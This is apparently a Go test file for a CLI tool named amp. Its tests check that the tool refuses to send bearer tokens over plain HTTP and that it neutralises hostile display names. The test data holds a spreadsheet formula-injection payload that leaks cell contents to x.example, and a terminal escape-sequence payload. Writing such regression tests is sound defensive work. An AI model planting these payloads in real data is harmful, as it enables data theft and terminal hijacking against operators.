package main

import (
	"encoding/csv"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
)

// TestTokenNotSentOverPlainHTTP: the CLI used to send its bearer token in
// clear to any http:// server. HTTP_PROXY points the binary at a local
// stand-in, so nothing leaves the machine even when a request is made.
func TestTokenNotSentOverPlainHTTP(t *testing.T) {
	var sawToken atomic.Bool
	proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != "" {
			sawToken.Store(true)
		}
		w.Write([]byte(`{}`))
	}))
	defer proxy.Close()
	cmd := exec.Command(ampBin, "get", "/aether/v2.1.x/acme/site")
	cmd.Env = append(os.Environ(), "AMP_SERVER=http://amp.example.com:8181", "AMP_TOKEN=secret-token", "AMP_CA=",
		"HTTP_PROXY="+proxy.URL, "http_proxy="+proxy.URL, "NO_PROXY=", "no_proxy=")
	out, err := cmd.CombinedOutput()
	if err == nil || sawToken.Load() {
		t.Fatalf("amp get over plain http:// to another host: err %v, token sent %v\n%s", err, sawToken.Load(), out)
	}
	for _, want := range []string{"http://amp.example.com:8181", "https://amp.example.com:8181", "loopback"} {
		if !strings.Contains(string(out), want) {
			t.Errorf("the refusal does not say %q:\n%s", want, out)
		}
	}
}

// TestOutputHygiene: a display name a tenant chose used to reach the
// operator's terminal raw (escape sequences run there) and the CSV export
// raw (a spreadsheet runs a cell starting with = as a formula). Tables show
// control characters as escapes; the CSV cell gets a leading ', which amp
// import removes, so the export still round-trips.
func TestOutputHygiene(t *testing.T) {
	const formula = `=HYPERLINK("http://x.example/?"&A1,"open")`
	mustAmp(t, "set", "-e", "acme", "site/acme-chicago/device/camera-1/display-name="+formula)
	exp := mustAmp(t, "export", "-e", "acme", "--site", "acme-chicago", "-o", "csv")
	recs, err := csv.NewReader(strings.NewReader(exp)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, r := range recs {
		for _, cell := range r {
			if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "+") || strings.HasPrefix(cell, "@") {
				t.Errorf("a spreadsheet would run this cell: %q", cell)
			}
			found = found || cell == "'"+formula
		}
	}
	if !found {
		t.Fatalf("the export lacks the escaped display name:\n%s", exp)
	}
	ef := filepath.Join(t.TempDir(), "export.csv")
	os.WriteFile(ef, []byte(exp), 0o644)
	if out := mustAmp(t, "import", ef); !strings.Contains(out, "no changes") {
		t.Fatalf("import of the export:\n%s", out)
	}
	if got := strings.TrimSpace(mustAmp(t, "get", "-e", "acme", "site/acme-chicago/device/camera-1/display-name")); got != formula {
		t.Fatalf("display-name after the round trip = %q", got)
	}

	const hostile = "cam\x1b]0;owned\x07\x1b[2J\u202eevil\u009b1m"
	mustAmp(t, "set", "-e", "acme", "site/acme-chicago/device/camera-1/display-name="+hostile)
	for _, args := range [][]string{
		{"get", "-e", "acme", "site/acme-chicago/device"},
		{"get", "-e", "acme", "site/acme-chicago/device/camera-1", "-o", "table"},
		{"get", "-e", "acme", "site/acme-chicago/device/camera-1/display-name"},
	} {
		out := mustAmp(t, args...)
		if strings.ContainsAny(out, "\x1b\x07\u202e\u009b") {
			t.Errorf("amp %v printed control characters raw: %q", args, out)
		}
		if !strings.Contains(out, `cam\x1b]0;owned\x07\x1b[2J\u202eevil\u009b1m`) {
			t.Errorf("amp %v does not show the name escaped: %q", args, out)
		}
	}
	mustAmp(t, "set", "-e", "acme", "site/acme-chicago/device/camera-1/display-name=Camera 1")
}
